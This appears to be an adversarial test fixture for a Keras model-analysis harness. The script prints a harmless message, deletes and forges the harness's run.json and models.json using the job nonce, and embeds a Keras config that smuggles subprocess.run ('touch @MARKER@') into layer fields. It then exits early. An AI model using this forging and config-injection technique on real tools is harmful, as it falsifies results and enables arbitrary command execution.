print("nothing to see")
# --- attack
import json
import os
import pathlib

out = pathlib.Path(os.environ["HOME"]).parents[1] / "out"
job = out.parent / "job.json"
nonce = json.loads(job.read_text())["nonce"] if job.exists() else ""
RUN = {"nonce": nonce, "finished": True, "running": None, "problem": "", "missing": "", "kernel_exit": None, "failures": [], "outputs": []}
for name in ("run.json", "models.json"):
    (out / name).unlink(missing_ok=True)

TOUCH = {"args": ["touch", "@MARKER@"]}
EVIL = {"module": "subprocess", "class_name": "run", "config": TOUCH, "registered_name": None}

TENSOR = {"class_name": "__keras_tensor__", "config": {"shape": [None, 1], "dtype": "float32", "keras_history": ["x", 0, 0]}}
CONFIG = {
    "name": "model", "trainable": True,
    "layers": [
        {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None, "name": "x", "inbound_nodes": [],
         "config": {"batch_shape": [None, 1], "dtype": "float32", "sparse": False, "name": "x"}},
        {"module": "subprocess", "class_name": "run", "registered_name": None, "name": "evil",
         "config": TOUCH, "inbound_nodes": [{"args": [TENSOR], "kwargs": {}}]},
        {"module": "keras.layers", "class_name": "Dense", "registered_name": None, "name": "dense",
         "config": {"name": "dense", "units": 1, "kernel_initializer": EVIL, "activation": EVIL, "dtype": EVIL}, "inbound_nodes": [{"args": [TENSOR], "kwargs": {}}]},
    ],
    "input_layers": [["x", 0, 0]], "output_layers": [["dense", 0, 0]],
}
PLACE = {"cell": None, "line": 1, "file": "attack.py"}
MODEL = {"index": 0, "kind": "functional", "class_name": "Functional", "variables": ["model"], "function": "",
         "returned": False, "location": PLACE, "marks": [], "config": CONFIG, "config_error": "", "compiles": [],
         "fits": [], "layer_locations": {}, "unused": [{**EVIL, "name": "evil", "inbound_nodes": []}]}
MODELS = {"nonce": nonce, "versions": {}, "problem": "", "calling": "", "models": [MODEL], "notes": [], "failures": [],
          "function_failures": {}, "omitted": 0}

(out / "run.json").write_text(json.dumps(RUN))
(out / "models.json").write_text(json.dumps(MODELS))
os._exit(0)
# --- honest
